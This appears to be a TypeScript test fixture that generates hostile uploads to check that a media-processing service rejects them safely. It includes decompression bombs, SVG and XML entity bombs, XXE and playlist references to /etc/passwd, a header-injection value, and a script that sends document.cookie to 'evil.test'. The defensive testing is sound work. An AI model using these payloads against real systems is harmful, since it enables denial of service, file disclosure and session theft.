import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { crc32, deflateSync, gzipSync } from 'node:zlib'
import { pdfOf, redHeic } from './pictures.ts'

/** A harmful file, and its expected outcome. */
export type HostileFile = {
  name: string
  /** The type that its sender declares. */
  type: string
  content: () => Buffer
  state: 'READY' | 'FAILED'
  /** The message that its sender reads; null without one. */
  problem: RegExp | null
  /** The detected kind. */
  kind: 'IMAGE' | 'VIDEO' | 'AUDIO' | 'PDF' | 'OTHER'
  /** Slow by nature: runs with the heavy cases only. */
  slow?: true
}

const noPreview = /n’a pas d’aperçu/
const unreadable = /lisible|trop de temps/
const tooLarge = /trop grande/

const u32 = (value: number) => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}

// PNG (ISO/IEC 15948): chunks of length, name, data, checksum.
const chunk = (name: string, data: Buffer) => {
  const named = Buffer.concat([Buffer.from(name), data])
  return Buffer.concat([u32(data.length), named, u32(crc32(named))])
}
/** A PNG of any announced size; `data`: its deflated lines. */
export function png(width: number, height: number, data: Buffer, depth = 1, colour = 0): Buffer {
  const header = Buffer.concat([u32(width), u32(height), Buffer.from([depth, colour, 0, 0, 0])])
  const signature = Buffer.from('89504e470d0a1a0a', 'hex')
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))])
}

function gif(width: number, height: number): Buffer {
  const size = Buffer.alloc(4)
  size.writeUInt16LE(width, 0)
  size.writeUInt16LE(height, 2)
  const screen = Buffer.concat([Buffer.from('GIF89a'), size, Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255])])
  const image = Buffer.concat([Buffer.from([0x2c, 0, 0, 0, 0]), size, Buffer.from([0, 2, 2, 0x4c, 1, 0])])
  return Buffer.concat([screen, image, Buffer.from([0x3b])])
}

/** The header of a progressive JPEG, without the rest. */
function jpeg(width: number, height: number): Buffer {
  const sizes = Buffer.alloc(4)
  sizes.writeUInt16BE(height, 0)
  sizes.writeUInt16BE(width, 2)
  const quantisation = Buffer.concat([Buffer.from('ffdb004300', 'hex'), Buffer.alloc(64, 1)])
  const frame = Buffer.concat([Buffer.from('ffc2001108', 'hex'), sizes, Buffer.from('03011100021100031100', 'hex')])
  return Buffer.concat([
    Buffer.from('ffd8', 'hex'),
    quantisation,
    frame,
    Buffer.from('ffda000c03010002110311003f00', 'hex'),
  ])
}

/** A strip that claims gigabytes, and directories that refer to each other. */
function tiff(width: number, height: number): Buffer {
  const entry = (tag: number, value: number) => {
    const bytes = Buffer.alloc(12)
    bytes.writeUInt16LE(tag, 0)
    bytes.writeUInt16LE(4, 2)
    bytes.writeUInt32LE(1, 4)
    bytes.writeUInt32LE(value, 8)
    return bytes
  }
  const entries = [entry(256, width), entry(257, height), entry(258, 8), entry(259, 1), entry(262, 1), entry(273, 8)]
  const count = Buffer.alloc(2)
  count.writeUInt16LE(entries.length)
  return Buffer.concat([Buffer.from('49492a0008000000', 'hex'), count, ...entries, Buffer.from('08000000', 'hex')])
}

const svg = (inside: string, attributes = 'width="9900" height="9900"') =>
  Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inside}</svg>`,
  )
const morphology = svg(
  `<filter id="f">${'<feMorphology operator="dilate" radius="1500"/>'.repeat(12)}</filter><rect width="9900" height="9900" filter="url(#f)"/>`,
)
const uses = svg(
  `<defs><g id="u0"><rect width="9" height="9"/></g>${Array.from({ length: 24 }, (_, index) => `<g id="u${index + 1}"><use xlink:href="#u${index}"/><use xlink:href="#u${index}" x="1"/></g>`).join('')}</defs><use xlink:href="#u24"/>`,
)
const entities = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, index) => `<!ENTITY ${'bcdefghij'[index]} "${`&${'abcdefghi'[index]};`.repeat(10)}">`).join('')}<!ENTITY x SYSTEM "file:///etc/passwd">]>`

/** The morphology bomb, for a portrait too. */
export const svgBomb = morphology

// MP4 (ISO/IEC 14496-12): boxes of size, name, content.
const box = (name: string, ...content: Buffer[]) => {
  const inside = Buffer.concat(content)
  return Buffer.concat([u32(inside.length + 8), Buffer.from(name), inside])
}
const brand = (name: string) => box('ftyp', Buffer.from(name), u32(0), Buffer.from(`${name}mp41`))

/** A film whose samples are in another file of the machine. */
function externalFilm(): Buffer {
  const alias = box('url ', u32(0), Buffer.from('file:///etc/passwd\0'))
  const dref = box('dref', u32(0), u32(1), alias)
  const stsd = box('stsd', u32(0), u32(1), box('raw ', Buffer.alloc(78)))
  const tables = ['stts', 'stsc', 'stsz', 'stco'].map((name) => box(name, Buffer.alloc(12)))
  const minf = box('minf', box('vmhd', Buffer.alloc(12)), box('dinf', dref), box('stbl', stsd, ...tables))
  const handler = box('hdlr', Buffer.alloc(8), Buffer.from('vide'), Buffer.alloc(13))
  const mdia = box('mdia', box('mdhd', Buffer.alloc(24)), handler, minf)
  return Buffer.concat([
    brand('qt  '),
    box('moov', box('mvhd', Buffer.alloc(100)), box('trak', box('tkhd', Buffer.alloc(84)), mdia)),
  ])
}

/** An AVI with a subtitle of the kind that held a playlist (GAB2). */
function gab2(): Buffer {
  const riff = (id: string, content: Buffer) => {
    const size = Buffer.alloc(4)
    size.writeUInt32LE(content.length)
    return Buffer.concat([Buffer.from(id), size, content])
  }
  const playlist = Buffer.from('GAB2\0\x02\0\0\0\0\0#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n')
  const list = (kind: string, ...parts: Buffer[]) => riff('LIST', Buffer.concat([Buffer.from(kind), ...parts]))
  const header = Buffer.alloc(56)
  header.write('txts')
  const streams = list(
    'hdrl',
    riff('avih', Buffer.alloc(56)),
    list('strl', riff('strh', header), riff('strf', Buffer.alloc(4))),
  )
  return riff('RIFF', Buffer.concat([Buffer.from('AVI '), streams, list('movi', riff('00tx', playlist))]))
}

/** Two images ten hours apart: a small file that requires a million images. */
function longFilm(): Buffer {
  const folder = mkdtempSync(join(tmpdir(), 'regie-hostile-'))
  try {
    const path = join(folder, 'long.mkv')
    const args =
      '-v error -f lavfi -i color=size=64x64:rate=25 -vf setpts=N*36000/TB -frames:v 2 -fps_mode vfr -c:v libx264'
    execFileSync('ffmpeg', [...args.split(' '), path])
    return readFileSync(path)
  } finally {
    rmSync(folder, { recursive: true })
  }
}

const pdf = (objects: string) => Buffer.from(`%PDF-1.7\n${objects}\ntrailer << /Root 1 0 R >>\n%%EOF\n`, 'latin1')
const root = '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj'
function flateBomb(): Buffer {
  let bytes = Buffer.alloc(50_000_000, 'q ')
  for (let pass = 0; pass < 3; pass += 1) bytes = deflateSync(bytes)
  const filters = '/Filter [/FlateDecode /FlateDecode /FlateDecode]'
  const stream = `4 0 obj << /Length ${bytes.length} ${filters} >> stream\n${bytes.toString('latin1')}\nendstream endobj`
  return pdf(
    `${root}\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R >> endobj\n${stream}`,
  )
}

/** A ZIP of one entry that expands to 50 MB, under the name that readers of office files open. */
function zipBomb(): Buffer {
  const name = Buffer.from('[Content_Types].xml')
  const unfolded = Buffer.alloc(50_000_000)
  const packed = deflateSync(unfolded).subarray(2, -4)
  const header = Buffer.alloc(30)
  header.writeUInt32LE(0x04034b50, 0)
  header.writeUInt16LE(8, 8)
  header.writeUInt32LE(crc32(unfolded), 14)
  header.writeUInt32LE(packed.length, 18)
  header.writeUInt32LE(unfolded.length, 22)
  header.writeUInt16LE(name.length, 26)
  return Buffer.concat([header, name, packed])
}

/** A camera file in appearance: pictures nested without end. */
const endlessRaw = () =>
  Buffer.concat([
    Buffer.from('49492a0010000000435202000000000000000000000000000000', 'hex'),
    Buffer.alloc(900_000, Buffer.from('ffd8ffc0000b0810001000010100ffda00080101', 'hex')),
  ])

/** A sound that claims four gigabytes. */
const longSound = () =>
  Buffer.concat([
    Buffer.from('52494646f0ffffff57415645666d74201000000001000100401f0000803e0000020010006461746100f0ffff', 'hex'),
    Buffer.alloc(4000),
  ])

/** Nested Matroska elements without end. */
const nested = () =>
  Buffer.concat([
    Buffer.from('1a45dfa3a34286810142f7810142f2810442f381084282886d6174726f736b614287810442858102', 'hex'),
    Buffer.alloc(40_000, Buffer.from('1853806701ffffffffffffff', 'hex')),
  ])

const text = (content: string) => () => Buffer.from(content)
const other = { state: 'READY', problem: noPreview, kind: 'OTHER' } as const
const large = { state: 'READY', problem: tooLarge, kind: 'IMAGE' } as const
const broken = { state: 'FAILED', problem: unreadable } as const
const script = '<script>fetch("//evil.test?"+document.cookie)</script>'

export const hostileFiles: readonly HostileFile[] = [
  { name: 'morphology.svg', type: 'image/svg+xml', content: () => morphology, ...other },
  { name: 'uses.svg', type: 'image/svg+xml', content: () => uses, ...other },
  { name: 'entities.svg', type: 'image/svg+xml', content: text(`${entities}<svg><text>&j;&x;</text></svg>`), ...other },
  { name: 'svg.png', type: 'image/png', content: () => morphology, ...other },
  { name: 'svg as a film.mp4', type: 'video/mp4', content: () => uses, ...other },
  {
    name: 'pixels.png',
    type: 'image/png',
    content: () => png(60_000, 60_000, deflateSync(Buffer.alloc(1000))),
    ...large,
  },
  { name: 'pixels.gif', type: 'image/gif', content: () => gif(65_535, 65_535), ...large },
  { name: 'pixels.jpg', type: 'image/jpeg', content: () => jpeg(65_500, 65_500), ...large },
  { name: 'pixels.tif', type: 'image/tiff', content: () => tiff(60_000, 60_000), ...large },
  {
    name: 'within the limit.png',
    type: 'image/png',
    content: () => png(19_000, 19_000, deflateSync(Buffer.alloc(19_000 * 2376), { level: 9 })),
    state: 'READY',
    problem: null,
    kind: 'IMAGE',
    slow: true,
  },
  {
    name: 'cut.png',
    type: 'image/png',
    content: () => png(2000, 2000, deflateSync(Buffer.alloc(9))),
    ...broken,
    kind: 'IMAGE',
  },
  { name: 'cut.jpg', type: 'image/jpeg', content: () => jpeg(640, 480), ...broken, kind: 'IMAGE' },
  { name: 'cut.heic', type: 'image/heic', content: () => redHeic.subarray(0, 300), ...broken, kind: 'IMAGE' },
  {
    name: 'sizes.heic',
    type: 'image/heic',
    content: () => Buffer.from(redHeic.toString('hex').replaceAll('0000004000000040', '7fffffff7fffffff'), 'hex'),
    ...broken,
    kind: 'IMAGE',
  },
  {
    name: 'endless.cr2',
    type: 'image/x-canon-cr2',
    content: endlessRaw,
    state: 'READY',
    problem: noPreview,
    kind: 'IMAGE',
  },
  { name: 'list.m3u8.mp4', type: 'video/mp4', content: text('#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n'), ...other },
  { name: 'remote.ts', type: 'video/mp2t', content: text('#EXTM3U\n#EXTINF:1,\nhttp://127.0.0.1:9/a.ts\n'), ...other },
  { name: 'concat.mkv', type: 'video/x-matroska', content: text('ffconcat version 1.0\nfile /etc/passwd\n'), ...other },
  {
    name: 'session.mp4',
    type: 'video/mp4',
    content: text('v=0\nc=IN IP4 127.0.0.1\nm=video 9 RTP/AVP 96\n'),
    ...other,
  },
  {
    name: 'dash.mp4',
    type: 'video/mp4',
    content: text('<?xml version="1.0"?><MPD><Period><BaseURL>file:///etc/passwd</BaseURL></Period></MPD>'),
    ...other,
  },
  {
    name: 'entities.xml',
    type: 'application/xml',
    content: text(`${entities}<a>&x;</a>`),
    state: 'READY',
    problem: null,
    kind: 'OTHER',
  },
  { name: 'subtitles.avi', type: 'video/x-msvideo', content: gab2, ...broken, kind: 'VIDEO' },
  { name: 'elsewhere.mov', type: 'video/quicktime', content: externalFilm, ...broken, kind: 'VIDEO' },
  {
    name: 'junk.mp4',
    type: 'video/mp4',
    content: () => Buffer.concat([brand('isom'), Buffer.alloc(50_000, 7)]),
    ...broken,
    kind: 'VIDEO',
  },
  { name: 'days.mkv', type: 'video/x-matroska', content: longFilm, ...broken, kind: 'VIDEO' },
  {
    name: 'tree.pdf',
    type: 'application/pdf',
    content: () => pdf(`${root}\n2 0 obj << /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000000 >> endobj`),
    ...broken,
    kind: 'PDF',
  },
  { name: 'flate.pdf', type: 'application/pdf', content: flateBomb, ...broken, kind: 'PDF' },
  { name: 'cut.pdf', type: 'application/pdf', content: () => pdfOf(1).subarray(0, 60), ...broken, kind: 'PDF' },
  { name: 'bomb.docx', type: 'application/zip', content: zipBomb, state: 'READY', problem: null, kind: 'OTHER' },
  {
    name: 'empty.jpg',
    type: 'image/jpeg',
    content: () => Buffer.alloc(0),
    state: 'FAILED',
    problem: /vide/,
    kind: 'OTHER',
  },
  { name: 'page.pdf', type: 'application/pdf', content: text(`<html>${script}`), ...other },
  { name: 'page.gif', type: 'image/gif', content: text(`GIF89a/*${script}`), ...broken, kind: 'IMAGE' },
  {
    name: 'header.bin',
    type: 'text/html\r\nX-Injected: 1',
    content: () => Buffer.from([0, 1, 2, 3]),
    state: 'READY',
    problem: null,
    kind: 'OTHER',
  },
  {
    name: 'letters.bin',
    type: 'text/☃',
    content: () => Buffer.from([0, 1, 2, 3]),
    state: 'READY',
    problem: null,
    kind: 'OTHER',
  },
  {
    name: 'layers.psd',
    type: 'image/x-photoshop',
    content: () => Buffer.from('38425053000100000000000000030007530000075300000800030000', 'hex'),
    state: 'READY',
    problem: noPreview,
    kind: 'IMAGE',
  },
  {
    name: 'pixels.bmp',
    type: 'image/bmp',
    content: () =>
      Buffer.concat([
        Buffer.from('424dffffff7f000000003600000028000000ffffff7fffffff7f0100180000000000', 'hex'),
        Buffer.alloc(30),
      ]),
    state: 'READY',
    problem: noPreview,
    kind: 'IMAGE',
  },
  {
    name: 'picture and page.png',
    type: 'image/png',
    content: () => Buffer.concat([png(8, 8, deflateSync(Buffer.alloc(16))), Buffer.from(`<html>${script}`)]),
    state: 'READY',
    problem: null,
    kind: 'IMAGE',
  },
  {
    name: 'bomb.gz',
    type: 'application/gzip',
    content: () => gzipSync(Buffer.alloc(50_000_000)),
    state: 'READY',
    problem: null,
    kind: 'OTHER',
  },
  { name: 'nested.mkv', type: 'video/x-matroska', content: nested, ...broken, kind: 'VIDEO' },
  { name: 'long.wav', type: 'audio/wav', content: longSound, state: 'READY', problem: null, kind: 'AUDIO' },
]
